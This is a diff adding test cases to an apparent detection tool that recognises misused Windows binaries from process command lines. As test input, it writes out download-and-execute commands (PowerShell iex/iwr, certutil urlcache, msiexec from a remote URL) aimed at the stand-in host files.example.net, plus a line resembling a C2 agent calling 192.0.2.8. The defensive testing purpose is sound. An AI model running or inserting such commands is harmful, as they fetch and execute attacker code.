@@ -42,6 +42,20 @@ describe("a copy that nothing but its line tells", () => {
     expect(who({ commandLine: `${COPY} ${rest}` }).entry, "as somebody types it").toBe(`windows/${name}`);
   });
 
+  it.each([
+    ["powershell", '-c "iex (iwr http://files.example.net/a.txt -UseBasicParsing).Content"'],
+    ["certutil", "-urlcache -split -f http://files.example.net/a.exe a.exe"],
+    ["regasm", "/codebase D:\\kit\\a.dll"],
+    ["msiexec", "/q /i http://files.example.net/a.msi"],
+  ])("is %s wherever it lies, and in a batch file: %s", (name, rest) => {
+    expect(who({ commandLine: `upd.exe ${rest}` }).entry).toBe(`windows/${name}`);
+    const { invocations } = explain(
+      { platform: "windows", commandLine: `cmd /c "cd D:\\kit & upd ${rest}"` },
+      catalog,
+    ).explanation;
+    expect(invocations.map(({ binary }) => binary.entry)).toContain(`windows/${name}`);
+  });
+
   it("is known by every third line of the catalogue at least, and seldom taken for another", () => {
     let [lines, known, mistaken] = [0, 0, 0];
     for (const { entry, resolve } of readVectors("catalog"))
@@ -156,6 +170,15 @@ const ORDINARY: readonly (readonly [image: string, rest: string])[] = [
 ];
 
 describe("a program that nobody lists", () => {
+  it("is itself though what it hands on, or a script, would be another's line", () => {
+    for (const line of [
+      "C:\\Users\\Public\\a.exe -socket 192.0.2.8:70 -http http://192.0.2.8:88 -contact tcp",
+      "C:\\Users\\Public\\a.exe -r 100M -f gdigrab -framerate 25 -i desktop -c:v libx264 -preset fast o.mp4",
+      "C:\\Users\\Public\\a.vbs -ep bypass -f D:\\kit\\a.ps1",
+    ])
+      expect(who({ commandLine: line }).entry).toBeUndefined();
+  });
+
   it.each(ORDINARY)("is itself: %s %s", (image, rest) => {
     const commandLine = `"${image}" ${rest}`;
     expect(who({ image, commandLine }).entry).toBeUndefined();
